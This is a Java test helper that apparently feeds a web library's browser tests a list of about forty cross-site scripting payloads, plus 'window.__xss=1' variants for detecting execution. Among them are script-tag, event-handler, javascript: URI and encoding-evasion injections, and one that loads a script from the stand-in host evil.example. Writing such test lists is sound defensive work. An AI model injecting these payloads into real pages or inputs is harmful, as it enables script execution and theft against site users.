package dev.aether.web.browser;

import java.lang.reflect.Method;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * The XSS payloads of {@code dev.aether.web.html.XssPayloadTest} (read from it when it is on the
 * class path, so the two tests follow one list; the copy below otherwise), plus, for each payload
 * that calls {@code alert(1)}, a twin that sets {@code window.__xss = 1} instead, so a payload that
 * ran is caught even where a dialog would not be.
 */
final class XssPayloads {
    private XssPayloads() {
    }

    /** The payloads and their {@code window.__xss = 1} twins, without duplicates. */
    static List<String> all() {
        List<String> base = base();
        Set<String> all = new LinkedHashSet<>(base);
        base.stream().filter(p -> p.contains("alert(1)")).map(p -> p.replace("alert(1)", "window.__xss=1")).forEach(all::add);
        return List.copyOf(all);
    }

    @SuppressWarnings("unchecked")
    private static List<String> base() {
        try {
            Method payloads = Class.forName("dev.aether.web.html.XssPayloadTest").getDeclaredMethod("payloads");
            payloads.setAccessible(true);
            return ((Stream<String>) payloads.invoke(null)).toList();
        } catch (ReflectiveOperationException | RuntimeException notThere) {
            return COPY;
        }
    }

    /** A copy of {@code XssPayloadTest.payloads()}, for when that class is not on the class path. */
    private static final List<String> COPY = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg onload=alert(1)>",
            "\" autofocus onfocus=\"alert(1)",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " \t\njavascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "java\rscript:alert(1)",
            "\u0001javascript:alert(1)",
            "javascript&#58;alert(1)",
            "javascript&colon;alert(1)",
            "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
            "&#x6A;avascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</option><script>alert(1)</script>",
            "<!--<script>alert(1)</script>-->",
            "--><script>alert(1)</script>",
            "<!--",
            "]]><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "\u2028alert(1)\u2029",
            "</script><script>alert(1)</script>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<svg><script>alert&#40;1&#41;</script>",
            "expression(alert(1))",
            "red;background:url(javascript:alert(1))",
            "x\" style=\"x:expression(alert(1))",
            "\0<script>alert(1)</script>",
            "<style>@import 'javascript:alert(1)';</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");
}
